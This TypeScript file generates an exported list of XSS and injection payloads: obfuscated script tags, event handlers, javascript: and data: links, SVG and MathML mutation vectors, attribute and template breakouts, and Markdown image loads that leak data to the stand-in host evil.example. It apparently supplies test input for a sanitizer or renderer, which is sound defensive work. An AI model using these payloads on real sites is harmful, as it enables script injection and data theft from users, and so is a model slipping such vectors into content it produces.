/**
 * Texts that try to run a script in the page that shows them, or to make it call another host, made from families of tricks. Each
 * calls `pwned()` where it runs, and `evil.example` where it loads.
 */

const call = "pwned()";
const host = "//evil.example";

/** Ways to write one word of markup so that a filter that looks for it does not find it. */
const disguises: ((word: string) => string)[] = [
  (word) => word,
  (word) => word.toUpperCase(),
  (word) => [...word].map((letter, i) => (i % 2 ? letter.toUpperCase() : letter)).join(""),
  (word) => `${word.slice(0, 2)}\u0000${word.slice(2)}`,
  (word) => `${word.slice(0, 3)}<${word}>${word.slice(3)}`,
];

const scripts = disguises.flatMap((disguise) => {
  const tag = disguise("script");
  return [
    `<${tag}>${call}</${tag}>`,
    `<${tag} src=${host}/x.js></${tag}>`,
    `<${tag}/x>${call}</${tag} >`,
    `"><${tag}>${call}</${tag}>`,
  ];
});

const events = (
  "onload onerror onclick onmouseover onfocus onbegin ontoggle onanimationstart ontransitionend onpointerenter " +
  "onscroll onwheel oncopy onpaste onauxclick onbeforetoggle onformdata onhashchange onmessage onpageshow onblur onkeydown ondragstart"
).split(" ");
const handlers = events.flatMap((event) => [
  `<img src=x ${event}=${call}>`,
  `<svg ${event}=${call}>`,
  `<details open ${event}="${call}"><summary>a</summary></details>`,
  `<input autofocus ${event}='${call}'>`,
]);

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "&#106;avascript:",
  "&#x6A;avascript&colon;",
  "javascript&#58;",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg/onload=",
  "blob:",
  "view-source:javascript:",
];
const links = schemes.flatMap((scheme) => [
  `[click](${scheme}${call})`,
  `[click](<${scheme}${call}>)`,
  `<${scheme}${call}>`,
  `[click][1]\n\n[1]: ${scheme}${call}`,
  `<a href="${scheme}${call}">click</a>`,
]);

const frames = [
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src=${host}></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data=${host}/x.swf></object>`,
  `<embed src="javascript:${call}">`,
  `<embed src=${host}>`,
  `<base href=${host}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=http:${host}">`,
  `<link rel=stylesheet href=${host}/x.css>`,
  `<link rel=import href=${host}>`,
  `<link rel=dns-prefetch href=${host}>`,
  `<form action=${host}><button>go</button></form>`,
  `<form><button formaction="javascript:${call}">go</button></form>`,
  `<isindex action="javascript:${call}">`,
  `<video src=${host}/x.mp4 autoplay onplay=${call}></video>`,
  `<audio src=${host}/x.mp3 autoplay></audio>`,
  `<video><source onerror=${call} src=x></video>`,
  `<picture><source srcset=${host}/x.png><img></picture>`,
  `<portal src=${host}></portal>`,
  `<applet code=x></applet>`,
  `<marquee onstart=${call}>a</marquee>`,
  `<keygen autofocus onfocus=${call}>`,
];

const vectors = [
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text x=9 y=9>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=href to="javascript:${call}">`,
  `<svg><image href=${host}/x.png /></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${call}">a</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `<style><img src="</style><img src=x onerror=${call}//">`,
  `<title><img src=x onerror=${call}></title>`,
  `<textarea><img src=x onerror=${call}></textarea>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<select><iframe></select><img src=x onerror=${call}>`,
  `<p id="</p><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
  `<x/onclick=${call}>a`,
];

/** What breaks out of the place that the text is put into: an attribute, or the data that a page brings along. */
const outbreaks = [
  ...['"', "'", "`", '\\"', "&quot;", "&#34;", "\u201d"].flatMap((quote) => [
    `${quote} onmouseover=${call} x=${quote}`,
    `${quote}><img src=x onerror=${call}>`,
    `${quote};${call};//`,
  ]),
  `</script><script>${call}</script>`,
  `</ScRiPt ><img src=x onerror=${call}>`,
  `<!--<script>`,
  `]]></script><script>${call}//`,
  `\u2028${call}\u2029`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${call}`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `{"__proto__":{"x":"<img src=x onerror=${call}>"}}`,
  `__proto__[onload]=${call}`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `<scr\u00adipt>${call}</scr\u00adipt>`,
  `\u202e<tpircs/>${call}<tpircs>`,
];

/** What only loads: that alone carries away what the address holds. */
const loads = [
  `![a](http:${host}/leak.png)`,
  `![a](${host}/leak.png)`,
  `![a][p]\n\n[p]: http:${host}/leak.png`,
  `[![a](http:${host}/leak.png)](http:${host})`,
  `![a](http:${host}/leak.png "onerror=${call}")`,
  `![a](javascript:${call})`,
  `![a](data:image/svg+xml,<svg onload=${call}>)`,
  `<img src=http:${host}/leak.png>`,
  `<img srcset="http:${host}/leak.png 1x">`,
  `<img src="x" style="background:url(http:${host}/leak.png)">`,
  `<div style="background-image:url(http:${host}/leak.png)">a</div>`,
  `<style>*{background:url(http:${host}/leak.png)}</style>`,
  `<style>@import "http:${host}/x.css";</style>`,
  `<style>@font-face{font-family:x;src:url(http:${host}/x.woff)}*{font-family:x}</style>`,
  `<table background=http:${host}/leak.png><tr><td>a</table>`,
  `<body background=http:${host}/leak.png>`,
  `<input type=image src=http:${host}/leak.png>`,
  `<a ping=http:${host} href=#>a</a>`,
  `~~~html\n<img src=http:${host}/leak.png>\n~~~`,
  `\`\`\`js"onmouseover=${call}\nx\n\`\`\``,
  `| a |\n|---|\n| ![a](http:${host}/leak.png) |`,
  `> ![a](http:${host}/leak.png)`,
  `- [x] <img src=http:${host}/leak.png>`,
  `[^1]\n\n[^1]: ![a](http:${host}/leak.png)`,
  `<b id=location name=cookie><form name=body><input name=innerHTML><a id=pwned href=http:${host}>a</a>`,
];

/** All of them, each once. */
export const hostilePayloads: readonly string[] = [
  ...new Set([...scripts, ...handlers, ...links, ...frames, ...vectors, ...outbreaks, ...loads]),
];
